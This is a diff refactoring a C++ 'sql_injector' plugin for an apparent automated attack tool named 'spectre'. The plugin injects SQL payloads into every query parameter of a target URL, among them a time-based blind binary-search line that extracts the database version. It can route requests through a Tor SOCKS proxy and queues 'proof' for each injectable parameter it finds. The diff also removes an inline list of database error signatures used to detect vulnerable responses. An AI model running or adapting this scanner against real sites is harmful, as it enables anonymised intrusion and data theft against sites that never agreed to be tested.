@@ -1,17 +1,24 @@
 #include "spectre/plugin.h"
 #include "spectre/proof_queue.h"
 #include "spectre/tor_proxy.h"
+#include "spectre/http_client.h"
+#include "spectre/scan_registry.h"
+#include "spectre/log.h"
+#include "spectre/trace.h"
+#include "spectre/matchers.h"
+#include "spectre/task_memory.h"
+#include "spectre/url_utils.h"
 #include <cpr/cpr.h>
 #include <nlohmann/json.hpp>
-#include <iostream>
 #include <vector>
 #include <string>
 #include <chrono>
-#include <regex>
-#include <uriparser/Uri.h>
 
 namespace {
 
+const spectre::LogSource& logger = spectre::Logger::get_instance().source("sql_injector");
+const spectre::TaskType task_type = spectre::intern_task_type("sql_injector");
+
 class SQLInjector : public spectre::Plugin {
 private:
     struct SQLPayload {
@@ -49,98 +56,55 @@ private:
         {"' AND IF((ASCII(SUBSTRING((SELECT version()),1,1))>52),SLEEP(5),0)--", "Conditional binary search", "binary_search", true, 5}
     };
 
-    std::vector<std::string> error_signatures = {
-        "SQL syntax.*MySQL",
-        "Warning.*mysql_",
-        "MySQLSyntaxErrorException",
-        "valid MySQL result",
-        "PostgreSQL.*ERROR",
-        "Warning.*pg_",
-        "valid PostgreSQL result",
-        "ORA-[0-9][0-9][0-9][0-9]",
-        "Oracle error",
-        "Oracle.*Driver",
-        "SQLServer JDBC Driver",
-        "SqlException",
-        "SQLite/JDBCDriver",
-        "SQLite.Exception",
-        "System.Data.SQLite.SQLiteException",
-        "Warning.*sqlite_",
-        "Microsoft.*ODBC.*SQL Server.*Driver",
-        "\\[SQL Server\\]",
-        "ODBC SQL Server Driver",
-        "ODBC Driver.*for SQL Server",
-        "SQLServer JDBC Driver",
-        "com.jnetdirect.jsql",
-        "macromedia.jdbc.sqlserver",
-        "Zend.Db.(Adapter|Statement)",
-        "Pdo.*(mysql|pgsql|oci):",
-        "PDOException"
-    };
-
     bool is_error_response(const std::string& response) {
-        for (const auto& sig : error_signatures) {
-            if (std::regex_search(response, std::regex(sig, std::regex_constants::icase))) {
-                return true;
-            }
-        }
-        return false;
+        spectre::TraceSpan span("sql_error_signatures", "matcher");
+        return spectre::SqlErrorMatcher::get_instance().matches(response);
     }
 
 public:
     std::string name() const override { return "sql_injector"; }
+    // Compiles the shared error-signature regexes off the first task's path.
+    void warm_up() override { spectre::SqlErrorMatcher::get_instance(); }
 
     void handle_task(const spectre::Task& task) override {
-        if (task.data.value("type", "") != name()) {
+        if (task.type != task_type) {
             return;
         }
 
-        std::string url = task.data.value("target", "");
+        const std::string& url = task.target;
         if (url.empty()) {
             return;
         }
 
-        std::cout << "[sql_injector] scanning " << url << std::endl;
-
-        UriUriA uri;
-        if (uriParseSingleUriA(&uri, url.c_str(), nullptr) != URI_SUCCESS) {
-            return;
-        }
+        logger.info("scanning", {{"target", url}});
 
-        if (uri.query.first) {
-            UriQueryListA* query_list;
-            int item_count;
-            if (uriDissectQueryMallocA(&query_list, &item_count, uri.query.first, uri.query.afterLast) == URI_SUCCESS) {
-                for (int i = 0; i < item_count; ++i) {
-                    std::string param_name = query_list->key;
-                    for (const auto& payload : payloads) {
-                        test_payload(url, param_name, payload);
-                    }
-                    query_list = query_list->next;
-                }
-                uriFreeQueryListA(query_list);
+        // Scratch for the task: the names go back with the arena.
+        auto params = spectre::query_param_names(url, spectre::task_memory());
+        spectre::scan_add_payloads(static_cast<std::uint64_t>(params.size()) * payloads.size());
+        for (const auto& param_name : params) {
+            for (const auto& payload : payloads) {
+                test_payload(url, param_name, payload);
+                spectre::scan_payload_done();
             }
         }
-        uriFreeUriMembersA(&uri);
     }
 private:
-    void test_payload(const std::string& base_url, const std::string& param, const SQLPayload& payload) {
-        std::string malicious_url = base_url;
-        std::regex param_regex(param + "=[^&]*");
-        malicious_url = std::regex_replace(malicious_url, param_regex, param + "=" + payload.payload);
+    void test_payload(const std::string& base_url, std::string_view param, const SQLPayload& payload) {
+        std::string malicious_url = spectre::with_query_param(base_url, param, payload.payload);
 
         cpr::Session session;
-        session.SetUrl(cpr::Url{malicious_url});
+        spectre::HttpClient::get_instance().set_url(session, malicious_url);
         session.SetTimeout(cpr::Timeout{10000 + (payload.delay_seconds * 1000)}); // Add delay for time-based
         if (spectre::TorProxy::get_instance().is_available()) {
             session.SetProxies({{"http", "socks5://127.0.0.1:9050"},
                                 {"https", "socks5://127.0.0.1:9050"}});
         }
         
-        auto start_time = std::chrono::steady_clock::now();
-        cpr::Response r = session.Get();
-        auto end_time = std::chrono::steady_clock::now();
-        auto duration = std::chrono::duration_cast<std::chrono::seconds>(end_time - start_time).count();
+        cpr::Response r = spectre::HttpClient::get_instance().get(session);
+        // Only the server's own delay counts: time spent queued for a
+        // connection or connecting must not read as a sleep() payload firing.
+        auto duration = std::chrono::duration_cast<std::chrono::seconds>(
+            spectre::HttpClient::server_time(session)).count();
 
         bool is_vulnerable = false;
         std::string reason;
@@ -154,15 +118,13 @@ private:
         }
 
         if (is_vulnerable) {
-            std::cout << "[sql_injector] VULNERABILITY DISCOVERED" << std::endl;
-            std::cout << "  -> Target: " << base_url << std::endl;
-            std::cout << "  -> Parameter: " << param << std::endl;
-            std::cout << "  -> Technique: " << payload.technique << std::endl;
+            logger.warn("vulnerability discovered",
+                        {{"target", base_url}, {"parameter", param}, {"technique", payload.technique}});
             submit_proof(base_url, param, payload, reason, malicious_url);
         }
     }
 
-    void submit_proof(const std::string& target, const std::string& param, const SQLPayload& payload, const std::string& reason, const std::string& vulnerable_url) {
+    void submit_proof(const std::string& target, std::string_view param, const SQLPayload& payload, const std::string& reason, const std::string& vulnerable_url) {
         nlohmann::json evidence;
         evidence["description"] = "A SQL Injection vulnerability was discovered.";
         evidence["parameter"] = param;
@@ -179,7 +141,7 @@ private:
             ""
         };
         spectre::enqueue_proof(proof);
-        std::cout << "[sql_injector] proof queued" << std::endl;
+        logger.debug("proof queued");
     }
 };
 